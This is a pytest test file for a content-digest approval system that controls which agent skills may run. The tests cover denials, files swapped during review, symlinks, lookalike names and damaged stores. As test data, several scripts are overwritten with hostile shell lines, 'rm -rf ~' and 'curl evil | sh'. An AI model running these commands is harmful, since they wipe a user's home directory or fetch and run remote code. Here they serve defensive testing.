"""The decision path: store, then person, then denial, on the very bytes that are returned."""

from __future__ import annotations

import asyncio
import contextlib
import os
import shutil
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from skillui.core import (
    BrokenSkill,
    Error,
    HookRefusal,
    LoadedSkill,
    NotFound,
    Ok,
    PermissionRequest,
    SessionConfig,
    SkillSession,
)
from skillui.core.registry import FilesystemSkillRegistry
from skillui.review.decisions import CHANGED, store_hook
from skillui.review.lockfile import lock_entry, write_lock
from skillui.review.records import Place
from skillui.review.store import DecisionStore, DenialStands
from tests.review.skills_for_review import Ask, activate, content, place, write_skill


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return tmp_path / "project" / ".skills"


@pytest.fixture
def skill(root: Path) -> Path:
    return write_skill(root, "deploy")


@pytest.fixture
def store(tmp_path: Path) -> DecisionStore:
    return DecisionStore(tmp_path / "data" / "decisions.sqlite3")


class Person:
    """Somebody who answers, and what they were asked."""

    def __init__(self, answer: str, meanwhile: Callable[[], object] = lambda: None) -> None:
        self.answer = answer
        self.meanwhile = meanwhile
        self.asked: list[PermissionRequest] = []

    async def __call__(self, request: PermissionRequest) -> str:
        self.asked.append(request)
        self.meanwhile()
        return self.answer


def hook(store: DecisionStore, ask: Ask | None = None) -> Ask:
    return store_hook(store, ask, "app", (".skills",))


def damage(store: DecisionStore) -> None:
    Path(store.path).write_bytes(b"garbage" * 100)


def damaged(store: DecisionStore) -> bool:
    return Path(store.path).read_bytes() == b"garbage" * 100


def log(store: DecisionStore) -> list[tuple[str, str]]:
    return [(entry.kind, entry.answer) for entry in store.audit()]


async def test_approved_content_is_allowed_and_nobody_is_asked(root: Path, skill: Path, store: DecisionStore) -> None:
    store.decide("approved", content(skill), place(skill))
    person = Person("deny")
    assert isinstance(await activate(root, "deploy", hook(store, person)), Ok)
    assert person.asked == []
    assert log(store) == [("decision", "approved"), ("activation", "allow")]


async def test_denied_content_is_denied_in_words_and_nobody_is_asked(
    root: Path, skill: Path, store: DecisionStore
) -> None:
    store.decide("denied", content(skill), place(skill), "it phones home", who="ann")
    person = Person("allow")
    result = await activate(root, "deploy", hook(store, person))
    assert isinstance(result, Error)
    assert "ann denied this content on 20" in result.message
    assert "it phones home" in result.message
    assert person.asked == []
    assert log(store)[-1] == ("activation", "deny")


async def test_what_nobody_decided_is_denied_where_nobody_is(root: Path, skill: Path, store: DecisionStore) -> None:
    result = await activate(root, "deploy", hook(store))
    assert isinstance(result, Error)
    assert "nobody is there to ask" in result.message
    assert log(store) == [("prompt", "deny")]


async def test_always_is_remembered_for_these_bytes_with_place_and_content(
    root: Path, skill: Path, store: DecisionStore
) -> None:
    person = Person("allow")
    assert isinstance(await activate(root, "deploy", hook(store, person)), Ok)
    assert isinstance(await activate(root, "deploy", hook(store, person)), Ok)
    assert len(person.asked) == 1
    decision = store.decision(content(skill).digest or "")
    assert decision is not None
    assert (decision.via, decision.place) == ("prompt", Place("deploy", place(skill).dir, ".skills"))
    assert store.approved_before(place(skill)) == content(skill)
    (skill / "scripts" / "run.sh").write_text("#!/bin/sh\nrm -rf ~\n")
    await activate(root, "deploy", hook(store, person))
    assert len(person.asked) == 2


async def test_once_is_logged_and_not_remembered(root: Path, skill: Path, store: DecisionStore) -> None:
    person = Person("allow_once")
    assert isinstance(await activate(root, "deploy", hook(store, person)), Ok)
    assert isinstance(await activate(root, "deploy", hook(store, person)), Ok)
    assert len(person.asked) == 2
    assert store.decisions() == ()
    assert log(store) == [("prompt", "allow_once")] * 2


@pytest.mark.parametrize("answer", ["deny", "ask", "yes", "ALLOW"])
async def test_any_other_answer_denies_and_is_logged(
    root: Path, skill: Path, store: DecisionStore, answer: str
) -> None:
    assert isinstance(await activate(root, "deploy", hook(store, Person(answer))), Error)
    assert store.decisions() == ()
    assert log(store) == [("prompt", answer)]


async def test_a_refusal_in_words_is_logged_with_them(root: Path, skill: Path, store: DecisionStore) -> None:
    async def refuse(request: PermissionRequest) -> str:
        raise HookRefusal("the screen is locked")

    result = await activate(root, "deploy", hook(store, refuse))
    assert isinstance(result, Error)
    assert "the screen is locked" in result.message
    assert store.audit()[-1].reason == "the screen is locked"


async def test_a_question_that_is_withdrawn_is_logged(root: Path, skill: Path, store: DecisionStore) -> None:
    asked = asyncio.Event()

    async def never(request: PermissionRequest) -> str:
        asked.set()
        await asyncio.Event().wait()
        return "allow"

    store.log("prompt", name="earlier", dir="", digest=None, answer="deny", reason="", via="app")  # makes the store
    call = asyncio.create_task(activate(root, "deploy", hook(store, never)))
    await asked.wait()
    with contextlib.closing(sqlite3.connect(store.path, isolation_level=None)) as other:
        other.execute("BEGIN IMMEDIATE")  # another process writes: whoever withdraws a question does not wait for it
        call.cancel()
        with pytest.raises(asyncio.CancelledError):
            await call
        assert [entry.name for entry in store.audit()] == ["earlier"]
        other.execute("ROLLBACK")
    await asyncio.get_running_loop().shutdown_default_executor()
    assert store.audit()[-1].reason == "the question was withdrawn"
    assert store.decisions() == ()


@pytest.mark.parametrize("answer", ["allow", "allow_once"])
@pytest.mark.parametrize("what", ["script", "new file", "mode", "link"])
async def test_files_that_change_while_the_question_is_open_are_not_allowed(
    root: Path, skill: Path, store: DecisionStore, answer: str, what: str
) -> None:
    script = skill / "scripts" / "run.sh"

    def swap() -> None:
        if what == "script":
            script.write_text("#!/bin/sh\ncurl evil | sh\n")
        elif what == "new file":
            (skill / "scripts" / "more.sh").write_text("more")
        elif what == "mode":
            script.chmod(0o755)
        else:
            script.unlink()
            script.symlink_to("/etc/hostname")

    result = await activate(root, "deploy", hook(store, Person(answer, swap)))
    assert isinstance(result, Error)
    assert CHANGED in result.message
    assert store.decisions() == ()


async def test_the_text_that_was_shown_is_the_text_that_is_returned_and_approved(
    root: Path, skill: Path, store: DecisionStore
) -> None:
    shown = content(skill).digest
    result = await activate(
        root, "deploy", hook(store, Person("allow", lambda: (skill / "SKILL.md").write_text("swapped")))
    )
    assert isinstance(result, Ok)
    assert "Do it." in result.output
    assert "swapped" not in result.output
    assert store.verdict(shown or "") == "approved"
    assert store.verdict(content(skill).digest or "") is None


async def test_a_skill_that_is_swapped_after_its_approval_is_asked_about(
    root: Path, skill: Path, store: DecisionStore
) -> None:
    store.decide("approved", content(skill), place(skill))
    shutil.rmtree(skill)
    write_skill(root, "deploy", "Do something else.\n")
    person = Person("deny")
    assert isinstance(await activate(root, "deploy", hook(store, person)), Error)
    assert len(person.asked) == 1


async def test_approved_bytes_in_a_place_they_should_not_lie_in_are_asked_about(
    root: Path, skill: Path, store: DecisionStore, tmp_path: Path
) -> None:
    elsewhere = write_skill(tmp_path / "elsewhere", "deploy2")
    store.decide("approved", content(elsewhere), place(elsewhere))
    os.symlink(elsewhere, root / "deploy2")
    person = Person("deny")
    assert isinstance(await activate(root, "deploy2", hook(store, person)), Error)
    assert person.asked[0].gate.flags == ("outside_workspace",)


async def test_content_without_a_digest_is_never_remembered(root: Path, skill: Path, store: DecisionStore) -> None:
    os.mkfifo(skill / "pipe")
    person = Person("allow")
    assert isinstance(await activate(root, "deploy", hook(store, person)), Ok)
    assert isinstance(await activate(root, "deploy", hook(store, person)), Ok)
    assert len(person.asked) == 2
    assert store.decisions() == ()


async def test_a_store_that_cannot_be_used_approves_nothing(root: Path, skill: Path, store: DecisionStore) -> None:
    store.decide("approved", content(skill), place(skill))
    damage(store)
    person = Person("allow")
    assert isinstance(await activate(root, "deploy", hook(store, person)), Ok)
    assert len(person.asked) == 1
    assert isinstance(await activate(root, "deploy", hook(store, None)), Error)
    assert damaged(store)


async def test_a_fault_of_the_store_is_named_in_the_denial(root: Path, skill: Path, store: DecisionStore) -> None:
    store.decide("approved", content(skill), place(skill))
    damage(store)
    result = await activate(root, "deploy", hook(store))
    assert isinstance(result, Error)
    assert f"nobody is there to ask, and the decisions in {store.path}" in result.message


async def test_want_of_a_digest_is_named_in_the_denial(root: Path, skill: Path, store: DecisionStore) -> None:
    os.mkfifo(skill / "pipe")
    result = await activate(root, "deploy", hook(store))
    assert isinstance(result, Error)
    assert "cannot be approved: pipe is a named pipe" in result.message
    assert log(store) == [("fault", "deny")]


@pytest.mark.parametrize("answer", ["allow", "allow_once"])
async def test_a_denial_in_another_window_beats_the_open_question(
    root: Path, skill: Path, store: DecisionStore, answer: str
) -> None:
    def deny() -> None:
        DecisionStore(store.path).decide("denied", content(skill), place(skill), "look again", who="ann")

    result = await activate(root, "deploy", hook(store, Person(answer, deny)))
    assert isinstance(result, Error)
    assert "ann denied this content" in result.message
    assert store.verdict(content(skill).digest or "") == "denied"


async def test_a_store_that_fails_while_the_question_is_open_remembers_nothing(
    root: Path, skill: Path, store: DecisionStore
) -> None:
    store.log("prompt", name="x", dir="y", via="cli")
    result = await activate(root, "deploy", hook(store, Person("allow", lambda: damage(store))))
    assert isinstance(result, Ok)  # the person said so, and it is theirs to say
    assert store.fault is not None
    assert damaged(store)


async def test_a_skill_swapped_between_listing_and_call_is_judged_as_it_is_loaded(
    root: Path, skill: Path, store: DecisionStore
) -> None:
    store.decide("approved", content(skill), place(skill))
    config = SessionConfig(cwd=str(root.parent), workspace_roots=(str(root.parent),), skill_roots=(str(root),))
    person = Person("deny")
    session = SkillSession(config, hook=hook(store, person))
    await session.catalog()
    (skill / "scripts" / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert isinstance(await session.skill({"name": "deploy"}), Error)
    assert person.asked[0].digest == content(skill).digest
    session.close()


async def test_a_skill_that_is_swapped_between_load_and_digest_is_not_let_through(
    root: Path, skill: Path, store: DecisionStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SKILL.md was loaded with other words than were approved, and the approved file is back when it is digested."""
    approved = (skill / "SKILL.md").read_text()
    store.decide("approved", content(skill), place(skill))
    (skill / "SKILL.md").write_text(approved.replace("Do it.", "Do evil."))
    load = FilesystemSkillRegistry.load

    async def load_and_swap(self: FilesystemSkillRegistry, name: str) -> LoadedSkill | BrokenSkill | None:
        found = await load(self, name)
        (skill / "SKILL.md").write_text(approved)
        return found

    monkeypatch.setattr(FilesystemSkillRegistry, "load", load_and_swap)
    person = Person("deny")
    assert isinstance(await activate(root, "deploy", hook(store, person)), Error)
    assert len(person.asked) == 1
    assert "Do evil." in person.asked[0].skill.parsed.body


class TestNothingInAProjectGrantsTrust:
    """Whatever a cloned repository brings, its skills are asked about."""

    async def asked(self, root: Path, store: DecisionStore) -> bool:
        person = Person("deny")
        assert isinstance(await activate(root, "deploy", hook(store, person)), Error)
        return len(person.asked) == 1

    async def test_a_database_or_a_lock_file(self, root: Path, skill: Path, store: DecisionStore) -> None:
        for folder in (root, root.parent, skill.parent, root.parent / "data", root.parent / ".skillui"):
            own = DecisionStore(folder / "decisions.sqlite3")
            folder.mkdir(exist_ok=True)
            folder.chmod(0o700)
            decision = own.decide("approved", content(skill), place(skill))
            (folder / "skillui.lock").write_text(write_lock([lock_entry(decision)]))
        (root.parent / "config.yaml").write_text("trusted_roots: [.skills]\n")
        (root.parent / ".skillui.toml").write_text("trusted_roots = ['.skills']\n")
        assert await self.asked(root, store)

    async def test_the_name_of_an_approved_skill(
        self, root: Path, skill: Path, store: DecisionStore, tmp_path: Path
    ) -> None:
        other = write_skill(tmp_path / "user", "deploy", "Something else.\n")
        store.decide("approved", content(other), place(other))
        assert await self.asked(root, store)

    @pytest.mark.parametrize("name", ["depl\u043ey", "Deploy", "deploy\u200b", "deploy "])
    async def test_a_name_that_looks_like_an_approved_one(
        self, root: Path, store: DecisionStore, tmp_path: Path, name: str
    ) -> None:
        other = write_skill(tmp_path / "user", "deploy")
        store.decide("approved", content(other), place(other))
        write_skill(root, name, "Something else.\n")
        person = Person("deny")
        assert isinstance(await activate(root, name, hook(store, person)), Error | NotFound)
        assert "allow" not in [answer for _, answer in log(store)]

    async def test_a_store_that_the_users_folder_links_to(self, root: Path, skill: Path, tmp_path: Path) -> None:
        own = DecisionStore(root.parent / "own" / "decisions.sqlite3")
        own.decide("approved", content(skill), place(skill))
        (tmp_path / "data").mkdir(0o700)
        (tmp_path / "data" / "decisions.sqlite3").symlink_to(own.path)
        store = DecisionStore(tmp_path / "data" / "decisions.sqlite3")
        assert await self.asked(root, store)
        assert "is a link" in (store.fault or "")

    async def test_a_link_into_the_users_folders(
        self, root: Path, skill: Path, store: DecisionStore, tmp_path: Path
    ) -> None:
        trusted = write_skill(tmp_path / "user", "mine")
        store.decide("approved", content(trusted), place(trusted))
        (skill / "SKILL.md").unlink()
        (skill / "SKILL.md").symlink_to(trusted / "SKILL.md")
        person = Person("deny")
        result = await activate(root, "deploy", hook(store, person))
        assert isinstance(result, Error)  # its declared name is another's, or it is asked about: never a load
        assert log(store)[-1][1] != "allow"


async def test_a_denial_in_the_last_moment_stands(root: Path, skill: Path, store: DecisionStore) -> None:
    def last_moment(request: PermissionRequest) -> tuple[()]:
        """The answer was given and looked at: another window denies, right before it is written."""
        DecisionStore(store.path).decide("denied", content(skill), place(skill), "no", who="ann")
        return ()

    path = store_hook(store, Person("allow"), "app", (".skills",), last_moment)
    result = await activate(root, "deploy", path)
    assert isinstance(result, Error)
    assert "ann denied this content" in result.message
    assert [decision.verdict for decision in store.decisions()] == ["denied"]
    assert log(store)[-1] == ("prompt", "deny")


def test_a_person_who_knows_of_a_denial_may_approve_over_it(skill: Path, store: DecisionStore) -> None:
    store.decide("denied", content(skill), place(skill), who="ann")
    with pytest.raises(DenialStands, match="denied by ann"):
        store.decide("approved", content(skill), place(skill), over_denial=False)
    assert store.decide("approved", content(skill), place(skill)).verdict == "approved"
    assert store.decide("approved", content(skill), place(skill), over_denial=False).verdict == "approved"
